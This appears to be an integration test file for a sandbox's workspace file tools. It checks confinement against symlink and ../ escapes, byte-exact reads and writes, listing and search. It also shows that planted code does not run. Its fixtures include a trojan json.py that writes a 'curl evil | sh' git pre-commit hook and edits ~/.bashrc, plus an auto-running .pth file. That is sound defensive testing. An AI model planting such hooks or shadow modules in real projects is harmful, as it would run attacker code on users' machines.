// files.ts against a real container: confinement to /workspace after
// symlinks, exact bytes, and the listing/search helpers.
import { randomBytes } from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { requireDocker } from "@/test/helpers/docker";
import { listFiles, OutOfWorkspaceError, readFile, realpathInWorkspace, SandboxFileError, searchFiles, statPath, writeFile } from "./files";
import { DEFAULT_LIMITS, dockerRuntime } from "./runtime";
import { prepareWorkspace } from "./workspace";
import { AGENT_UID } from "./layout";
import { withRuntimeUnderTest } from "@/test/helpers/sandbox-runtime";

// Without an engine and image these suites fail, saying how to fix it.
const image = await requireDocker();

const runtime = withRuntimeUnderTest(dockerRuntime());
let dataDir = "";
let containerId = "";
let workspaceDir = "";

function sh(script: string) {
  return runtime.exec(containerId, { cmd: ["bash", "-c", script], timeoutS: 30 });
}

async function expectOutside(promise: Promise<unknown>): Promise<OutOfWorkspaceError> {
  const err = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(OutOfWorkspaceError);
  expect((err as OutOfWorkspaceError).code).toBe("OUT_OF_WORKSPACE");
  return err as OutOfWorkspaceError;
}

describe("workspace files inside the sandbox", () => {
  beforeAll(async () => {
    dataDir = fs.mkdtempSync(path.join(os.tmpdir(), "airlock-files-int-"));
    const runId = `f${randomBytes(4).toString("hex")}`;
    workspaceDir = await prepareWorkspace(dataDir, runId);
    ({ containerId } = await runtime.createSandbox({ runId, image, workspaceDir, limits: { ...DEFAULT_LIMITS, memoryMb: 256 } }));
    // The agent's own links: one out of the workspace per kind of escape.
    const setup = await sh(
      [
        "ln -s /etc/passwd passwd-link",
        "ln -s /etc etc-dir-link",
        "ln -s /tmp tmp-dir-link",
        "ln -s /tmp/not-yet/new-file dangling-out",
        "ln -s ../.. up-link",
        "mkdir -p inner && echo inside > inner/real.txt && ln -s inner/real.txt ok-link && ln -s inner ok-dir-link",
      ].join(" && "),
    );
    expect(setup.exitCode).toBe(0);
  });
  afterAll(async () => {
    if (containerId) await runtime.removeSandbox(containerId);
    if (dataDir) fs.rmSync(dataDir, { recursive: true, force: true });
  });

  it("writes and reads arbitrary bytes exactly, flagging binary content", async () => {
    const bytes = Buffer.concat([randomBytes(70_000), Buffer.from([0, 255, 0, 1])]);
    const written = await writeFile(runtime, containerId, "bin/blob.dat", bytes);
    expect(written).toEqual({ path: "/workspace/bin/blob.dat", bytes: bytes.length, created: true });
    expect(fs.readFileSync(path.join(workspaceDir, "bin/blob.dat")).equals(bytes)).toBe(true);
    expect(fs.statSync(path.join(workspaceDir, "bin/blob.dat")).uid).toBe(AGENT_UID);

    const read = await readFile(runtime, containerId, "/workspace/bin/blob.dat", { encoding: "base64" });
    expect(read).toMatchObject({ exists: true, binary: true, size: bytes.length, bytesRead: bytes.length, eof: true, encoding: "base64" });
    expect(Buffer.from(read.content, "base64").equals(bytes)).toBe(true);
    const asText = await readFile(runtime, containerId, "bin/blob.dat");
    expect(asText).toMatchObject({ binary: true, content: "" });
  });

  it("round-trips UTF-8 text and reads windows by byte offset without splitting characters", async () => {
    const text = "héllo wörld — ünïcode ✓\nzweite Zeile\n";
    await writeFile(runtime, containerId, "notes/text.md", text);
    const whole = await readFile(runtime, containerId, "notes/text.md");
    expect(whole).toMatchObject({ content: text, binary: false, size: Buffer.byteLength(text), eof: true });

    // Byte 2 is inside "é" (2 bytes); the window ends before it.
    const first = await readFile(runtime, containerId, "notes/text.md", { offset: 0, limit: 2 });
    expect(first).toMatchObject({ content: "h", bytesRead: 1, eof: false, binary: false });
    const next = await readFile(runtime, containerId, "notes/text.md", { offset: first.bytesRead, limit: 5 });
    expect(next.content).toBe("éllo");
  });

  it("keeps an existing file's mode, applies a requested one, and reports what it wrote", async () => {
    await sh("printf '#!/bin/sh\\necho hi\\n' > run.sh && chmod 755 run.sh");
    const rewritten = await writeFile(runtime, containerId, "run.sh", "#!/bin/sh\necho bye\n");
    expect(rewritten.created).toBe(false);
    expect((await statPath(runtime, containerId, "run.sh")).mode).toBe(0o755);
    expect((await sh("./run.sh")).stdout).toBe("bye\n");
    await writeFile(runtime, containerId, "secret.txt", "x", { mode: 0o600 });
    expect(fs.statSync(path.join(workspaceDir, "secret.txt")).mode & 0o777).toBe(0o600);
  });

  it("refuses ../ escapes and absolute paths outside /workspace", async () => {
    for (const p of ["../etc/passwd", "/etc/passwd", "/", "/workspace/../root", "inner/../../etc/shadow", "/workspacex/file"]) {
      await expectOutside(readFile(runtime, containerId, p));
      await expectOutside(writeFile(runtime, containerId, p, "x"));
      await expectOutside(statPath(runtime, containerId, p));
    }
  });

  it("refuses symlinks that lead outside: to a file, through a linked directory, dangling, and climbing", async () => {
    const passwd = await expectOutside(readFile(runtime, containerId, "passwd-link"));
    expect(passwd.resolvedPath).toBe("/etc/passwd");
    await expectOutside(readFile(runtime, containerId, "etc-dir-link/passwd"));
    await expectOutside(readFile(runtime, containerId, "up-link/etc/hostname"));
    await expectOutside(listFiles(runtime, containerId, "etc-dir-link"));
    await expectOutside(searchFiles(runtime, containerId, "root", "etc-dir-link"));
    // Writes: the parent is a link to a writable place outside, or the leaf
    // is a dangling link pointing out. Nothing may appear there.
    await expectOutside(writeFile(runtime, containerId, "tmp-dir-link/planted", "x"));
    await expectOutside(writeFile(runtime, containerId, "dangling-out", "x"));
    await expectOutside(writeFile(runtime, containerId, "tmp-dir-link/deeper/new/file", "x"));
    // test -e, not ls: Debian's runsc answers ls's statx(AT_NO_AUTOMOUNT) with EINVAL.
    const planted = await sh("for f in /tmp/planted /tmp/not-yet /tmp/deeper; do test -e $f || echo 'No such file'; done | grep -c 'No such file'");
    expect(planted.stdout.trim()).toBe("3");
  });

  it("follows symlinks that stay inside the workspace", async () => {
    expect(await realpathInWorkspace(runtime, containerId, "ok-link")).toEqual({ path: "/workspace/inner/real.txt", exists: true });
    expect((await readFile(runtime, containerId, "ok-dir-link/real.txt")).content).toBe("inside\n");
    expect(await realpathInWorkspace(runtime, containerId, "ok-dir-link/new.txt")).toEqual({ path: "/workspace/inner/new.txt", exists: false });
    const st = await statPath(runtime, containerId, "ok-link");
    expect(st).toMatchObject({ path: "/workspace/inner/real.txt", exists: true, type: "file", size: 7, isSymlink: true });
  });

  it("answers a missing file with exists: false and a directory with IS_A_DIRECTORY", async () => {
    expect(await readFile(runtime, containerId, "nope.txt")).toMatchObject({ exists: false, content: "", path: "/workspace/nope.txt" });
    expect(await statPath(runtime, containerId, "nope.txt")).toMatchObject({ exists: false, type: null });
    await expect(readFile(runtime, containerId, "inner")).rejects.toSatisfy((e: unknown) => e instanceof SandboxFileError && e.code === "IS_A_DIRECTORY");
    await expect(writeFile(runtime, containerId, "inner", "x")).rejects.toMatchObject({ code: "IS_A_DIRECTORY" });
  });

  it("lists files to a depth without following links or descending into .git and node_modules", async () => {
    await sh(
      "mkdir -p tree/a/b/c tree/.git/objects tree/node_modules/pkg && touch tree/a/one tree/a/b/two tree/a/b/c/three tree/.git/HEAD tree/node_modules/pkg/index.js && ln -s /etc tree/outlink",
    );
    const shallow = await listFiles(runtime, containerId, "tree", 2);
    const paths = shallow.entries.map((e) => e.path);
    expect(paths).toEqual([
      "/workspace/tree/.git",
      "/workspace/tree/a",
      "/workspace/tree/a/b",
      "/workspace/tree/a/one",
      "/workspace/tree/node_modules",
      "/workspace/tree/outlink",
    ]);
    expect(shallow.entries.find((e) => e.path.endsWith("/.git"))).toMatchObject({ type: "dir", notListed: true });
    expect(shallow.entries.find((e) => e.path.endsWith("/outlink"))).toMatchObject({ type: "symlink", target: "/etc" });
    expect(shallow.truncated).toBe(false);
    const deep = await listFiles(runtime, containerId, "tree", 5);
    expect(deep.entries.map((e) => e.path)).toContain("/workspace/tree/a/b/c/three");
    const capped = await listFiles(runtime, containerId, "tree", 5, { maxEntries: 3 });
    expect(capped).toMatchObject({ truncated: true });
    expect(capped.entries).toHaveLength(3);
  });

  it("searches like grep -rn: line numbers, a glob, a cap, and no binary files", async () => {
    await sh(
      [
        "mkdir -p src/deep",
        "printf 'alpha\\nneedle one\\nbeta\\n' > src/a.ts",
        "printf 'needle two\\n' > src/deep/b.ts",
        "printf 'needle in js\\n' > src/c.js",
        "printf 'needle\\0binary' > src/d.ts",
        "for i in $(seq 1 50); do echo needle $i; done > src/many.txt",
      ].join(" && "),
    );
    const ts = await searchFiles(runtime, containerId, "needle", "src", "*.ts");
    expect(ts.matches).toEqual([
      { path: "/workspace/src/a.ts", line: 2, text: "needle one" },
      { path: "/workspace/src/deep/b.ts", line: 1, text: "needle two" },
    ]);
    expect(ts.truncated).toBe(false);
    const capped = await searchFiles(runtime, containerId, "needle \\d+", "src", undefined, { maxMatches: 10 });
    expect(capped.matches).toHaveLength(10);
    expect(capped.truncated).toBe(true);
    await expect(searchFiles(runtime, containerId, "(unclosed", "src")).rejects.toMatchObject({ code: "INVALID_INPUT" });
  });
});

describe("Airlock's file tools never run the agent's code", () => {
  beforeAll(async () => {
    dataDir = fs.mkdtempSync(path.join(os.tmpdir(), "airlock-files-m1-"));
    const runId = `m${randomBytes(4).toString("hex")}`;
    workspaceDir = await prepareWorkspace(dataDir, runId);
    ({ containerId } = await runtime.createSandbox({ runId, image, workspaceDir, limits: { ...DEFAULT_LIMITS, memoryMb: 256 } }));
  });
  afterAll(async () => {
    if (containerId) await runtime.removeSandbox(containerId);
    if (dataDir) fs.rmSync(dataDir, { recursive: true, force: true });
  });

  // What the outside test planted: a module that shadows the standard
  // library's json and writes where the policy denies the agent to write.
  const TROJAN = [
    "import os",
    "os.makedirs('/workspace/.git/hooks', exist_ok=True)",
    "open('/workspace/.git/hooks/pre-commit', 'a').write('curl evil | sh\\n')",
    "open(os.path.expanduser('~/.bashrc'), 'a').write('echo pwned\\n')",
    "open('/tmp/trojan-ran', 'a').write('json.py\\n')",
  ].join("\n");

  const ran = async () =>
    (
      await sh(
        "cat /tmp/trojan-ran 2>/dev/null; test -e /workspace/.git/hooks/pre-commit && echo hook; grep -q pwned ~/.bashrc 2>/dev/null && echo bashrc; true",
      )
    ).stdout;

  it("M1: a json.py in /workspace does not run on read_file, list_files, search or a write preview", async () => {
    fs.writeFileSync(path.join(workspaceDir, "json.py"), `${TROJAN}\n`);
    fs.writeFileSync(path.join(workspaceDir, "notes.txt"), "hello\n");
    // The trap is armed: the agent's own python in /workspace does run it.
    expect((await sh("python3 -c 'import json' && cat /tmp/trojan-ran")).stdout).toBe("json.py\n");
    await sh("rm -rf /tmp/trojan-ran /workspace/.git ~/.bashrc");
    expect(await ran()).toBe("");

    expect((await listFiles(runtime, containerId)).entries.map((e) => e.path)).toContain("/workspace/json.py");
    expect((await readFile(runtime, containerId, "notes.txt")).content).toBe("hello\n");
    // A write preview reads the current file, or learns that it does not exist.
    expect(await readFile(runtime, containerId, "new-file.txt")).toMatchObject({ exists: false });
    expect(await statPath(runtime, containerId, "notes.txt")).toMatchObject({ exists: true, type: "file" });
    expect((await searchFiles(runtime, containerId, "hello")).matches).toHaveLength(1);
    await writeFile(runtime, containerId, "written.txt", "ok\n");

    expect(await ran()).toBe("");
    expect(fs.existsSync(path.join(workspaceDir, ".git/hooks/pre-commit"))).toBe(false);
  });

  it("M1: a .pth file in the agent's user site does not run in the file tools", async () => {
    const site = await sh("python3 -c 'import site; print(site.getusersitepackages())'");
    const userSite = site.stdout.trim();
    expect(userSite).toMatch(/^\/home\/agent\/\.local\/lib\/python3\.\d+\/site-packages$/);
    const pth = `import os; open('/tmp/trojan-ran', 'a').write('pth\\n')`;
    expect((await sh(`mkdir -p ${userSite} && printf '%s\\n' "${pth}" > ${userSite}/airlock-trojan.pth`)).exitCode).toBe(0);
    await sh("rm -f /tmp/trojan-ran");
    // Armed: any ordinary python of the agent's runs it.
    await sh("cd / && python3 -c pass");
    expect(await ran()).toBe("pth\n");
    await sh("rm -f /tmp/trojan-ran");

    await listFiles(runtime, containerId);
    await readFile(runtime, containerId, "missing.txt");
    await writeFile(runtime, containerId, "written-2.txt", "ok\n");

    expect(await ran()).toBe("");
  });
});
